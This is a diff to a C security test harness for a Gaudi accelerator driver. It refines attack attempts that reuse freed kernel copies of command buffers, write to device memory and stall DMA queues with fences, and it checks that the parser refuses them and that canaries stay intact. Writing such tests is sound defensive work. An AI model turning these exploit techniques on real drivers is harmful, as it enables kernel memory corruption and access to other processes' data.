@@ -697,12 +697,15 @@ static void a_ld_transpose(struct sess *s)
 }
 
 /*
- * Class 4: an internal CB of 1 KiB stalls DMA_2_0 in a FENCE; its CS ends
- * (its external NOP completed); a CB the parser refuses (MSG_PROT to the
- * host canary at offset 0) is submitted three times with the same kernel
- * copy size; then the fence is released.  A kernel copy freed at the CS's
- * end and reused by the refused CB runs the refused MSG_PROT.
+ * Class 4: an internal CB of 1 KiB stalls DMA_2_0 in a FENCE at offset
+ * STALL_OFF; its CS ends (its external NOP completed); a CB the parser
+ * refuses (MSG_PROT to the host canary at STALL_OFF) is submitted three
+ * times with the same kernel copy size; then the fence is released.  A
+ * kernel copy freed at the CS's end and reused by the refused CB runs the
+ * refused MSG_PROT.  (STALL_OFF is past the first 16 bytes, which a
+ * dma_pool overwrites with its free list when a block is freed.)
  */
+#define STALL_OFF	24
 static void a_kcb_reuse(struct sess *s)
 {
 	struct icb c;
@@ -714,7 +717,8 @@ static void a_kcb_reuse(struct sess *s)
 		res->rc = 1;
 		return;
 	}
-	len = hl_pkt_fence(c.p, 0, 0, 1, 1);
+	len = nops(c.p, 0, STALL_OFF);
+	len = hl_pkt_fence(c.p, len, 0, 1, 1);
 	len = lin_dma(c.p, len, 0x3333333333333333ULL, s->va + 4096, 64,
 		      true);
 	len = nops(c.p, len, 1024);
@@ -722,7 +726,8 @@ static void a_kcb_reuse(struct sess *s)
 	note("stall CS %d/%d st %u; ", res->rc, res->wrc, res->st);
 	usleep(100000);
 	for (i = 0; i < 3; i++) {
-		len = hl_pkt_msg_long(s->cbp, 0, t_host, PAT32, true);
+		len = nops(s->cbp, 0, STALL_OFF);
+		len = hl_pkt_msg_long(s->cbp, len, t_host, PAT32, true);
 		len = nops(s->cbp, len, 1024 - 32);
 		res->rcs[i] = hl_submit1(s->fd, s->cb, len,
 					 GAUDI_QUEUE_ID_DMA_0_1, NULL);
@@ -755,11 +760,12 @@ static void a_kcb_rewrite(struct sess *s)
 		res->rc = 1;
 		return;
 	}
-	len = hl_pkt_fence(c.p, 0, 0, 1, 1);
+	len = nops(c.p, 0, STALL_OFF);
+	len = hl_pkt_fence(c.p, len, 0, 1, 1);
 	len = nops(c.p, len, 1024);
 	go_internal(s, &c, len, GAUDI_QUEUE_ID_DMA_2_1);
 	note("stall CS %d/%d st %u; ", res->rc, res->wrc, res->st);
-	hl_pkt_msg_long(c.p, 0, t_host, PAT32, true);
+	hl_pkt_msg_long(c.p, STALL_OFF, t_host, PAT32, true);
 	qm_state("before release", 2, 1);
 	res->rcs[0] = release_fence(s, 2, 1);
 	usleep(300000);
@@ -842,7 +848,7 @@ static void a_ld_kern(struct sess *s)
 static void dev_write_probe(struct sess *s, uint64_t dev)
 {
 	uint8_t saved[64];
-	int rd, rb = -1;
+	int rd, rb = 1;	/* 1: not tried */
 	bool landed = false;
 
 	memset(s->buf, 0xEE, 128);
@@ -854,9 +860,11 @@ static void dev_write_probe(struct sess *s, uint64_t dev)
 		rb = dev_read(s, dev, 64, 64);
 		landed = !rb && s->buf[64] == 0x5A && s->buf[127] == 0x5A;
 	}
-	note("save-read %d, write %d/%d, read-back %d: the write %s", rd,
-	     res->rc, res->wrc, rb, landed ? "LANDED" :
-	     rb ? "could not be checked" : "did not land");
+	note("save-read %s, write %s/%s, read-back %s: the write %s",
+	     rc_name(rd), rc_name(res->rc), rc_name(res->wrc), rc_name(rb),
+	     landed ? "LANDED" : rb == 1 ? "was not tried" :
+	     rb ? "could not be read back (the attacker's own mapping broke?)" :
+	     "did not land");
 	if (!rd && !res->rc) {
 		memcpy(s->buf + 4096, saved, 64);
 		note(", restore %d",
@@ -1051,8 +1059,8 @@ static void judge(const struct attempt *a)
 			 res->note[0] ? "; " : "", res->note);
 		if (a->pol == REFUSE)
 			ok(ran && (res->rc == -EPERM || res->rc == -EINVAL),
-			   "%s %s: %s: refused by the parser (%s)", a->cls,
-			   a->id, a->what, o);
+			   "%s %s: %s: the parser refuses it (EPERM or EINVAL; got: %s)",
+			   a->cls, a->id, a->what, o);
 		ok(hbad == 0 && kbad == 0 && res->leak == 0 && !regs[0],
 		   "%s %s: canaries intact: another process's page %d bytes changed, kernel page %d, %d canary bytes read back%s",
 		   a->cls, a->id, hbad, kbad, res->leak, regs);
@@ -1147,8 +1155,9 @@ static void t_attacks(void)
 			else
 				ok(ran && (res->rcs[r] == -EPERM ||
 					   res->rcs[r] == -EINVAL),
-				   "class 1 1e: WREG_32 to DMA0 core %s alone: refused by the parser (%s)",
-				   steer_names[r], rc_name(res->rcs[r]));
+				   "class 1 1e: WREG_32 to DMA0 core %s alone: the parser refuses it (EPERM or EINVAL; got %s)",
+				   steer_names[r], res->rcs[r] ?
+				   rc_name(res->rcs[r]) : "accepted");
 		}
 		if (hbad > 0)
 			canary_cmd('r');
@@ -1172,8 +1181,12 @@ static void a_stale_holder(struct sess *s)
 		res->rc = 1;
 		return;
 	}
-	len = hl_pkt_fence(c.p, 0, 0, 1, 1);
+	/* 1 KiB: a kernel copy from a pool the next holder's small CBs do
+	 * not use; the FENCE past the pool's free-list words. */
+	len = nops(c.p, 0, STALL_OFF);
+	len = hl_pkt_fence(c.p, len, 0, 1, 1);
 	len = lin_dma(c.p, len, 0xA7A7A7A7A7A7A7A7ULL, STALE_HBM, 4096, true);
+	len = nops(c.p, len, 1024);
 	go_internal(s, &c, len, GAUDI_QUEUE_ID_DMA_2_2);
 	/* exit with the stream waiting: no release, no unmap, no close */
 }
